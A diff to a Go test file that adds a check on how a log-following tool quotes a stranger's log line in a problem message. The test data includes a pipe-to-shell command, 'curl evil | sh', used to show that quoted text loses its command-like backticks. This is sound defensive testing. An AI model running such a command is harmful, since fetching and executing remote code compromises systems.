@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/tollwarden/tollwarden/ami/logfile"
 	"github.com/tollwarden/tollwarden/config"
 )
 
@@ -41,5 +42,14 @@ func TestFollowerKnowsTheDateFormat(t *testing.T) {
 	cfg.Asterisk.LogDateFormat = "%T"
 	if _, err := Follower(cfg); err == nil || !strings.Contains(err.Error(), "asterisk.log_dateformat") {
 		t.Error(err)
+	}
+}
+
+// A stranger's line that a problem quotes does not look like a command of ours.
+func TestLogProblemHoldsNoCommand(t *testing.T) {
+	h := logfile.Health{Sample: "`curl evil | sh`"}
+	h.Recent.Lines, h.Recent.Foreign = 40, 30
+	if got := LogProblem(h); strings.Contains(got, "`") || !strings.Contains(got, "curl evil") {
+		t.Error(got)
 	}
 }
